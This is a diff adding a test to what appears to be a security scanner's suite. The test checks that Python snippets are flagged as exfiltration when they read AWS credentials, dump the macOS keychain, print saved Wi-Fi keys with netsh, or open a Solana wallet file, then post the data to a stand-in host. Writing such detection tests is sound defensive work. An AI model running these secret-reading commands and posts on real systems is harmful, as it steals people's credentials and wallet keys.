@@ -299,3 +299,25 @@ test("an import hook's methods run on import: Python calls the finder on sys.met
   ].join('\n');
   assert.equal(findings(source).find((f) => f.rule === 'process-network-tool')?.trigger, 'import');
 });
+
+test('secrets read through pathlib, a command that dumps saved passwords, or a wallet keypair file reach the sink', () => {
+  const sent = (read: string) =>
+    findings(
+      `import os, pathlib, subprocess, requests\ndef collect():\n    data = ${read}\n    requests.post("https://api.collect.example/u", data=data)\n`,
+    ).find((f) => f.rule === 'exfiltration');
+  assert.match(sent('(pathlib.Path.home() / ".aws" / "credentials").read_text()')?.message ?? '', /AWS credentials/);
+  assert.match(sent('subprocess.check_output(["security", "dump-keychain", "-d"])')?.message ?? '', /saved logins/);
+  assert.match(
+    sent('subprocess.check_output("netsh wlan show profile name=* key=clear", shell=True)')?.message ?? '',
+    /saved logins/,
+  );
+  assert.match(sent('open(os.path.expanduser("~/.config/solana/id.json")).read()')?.message ?? '', /crypto wallets/);
+  for (const read of [
+    '(pathlib.Path.home() / ".aws" / "credentials").read_text()',
+    'subprocess.check_output(["security", "dump-keychain", "-d"])',
+  ])
+    assert.equal(sent(read)?.severity, 'high');
+  // a tool that reads its own settings file, or runs a command that prints nothing secret, sends no secret
+  assert.equal(sent('(pathlib.Path.home() / ".config" / "tool.toml").read_text()'), undefined);
+  assert.equal(sent('subprocess.check_output(["security", "list-keychains"])'), undefined);
+});
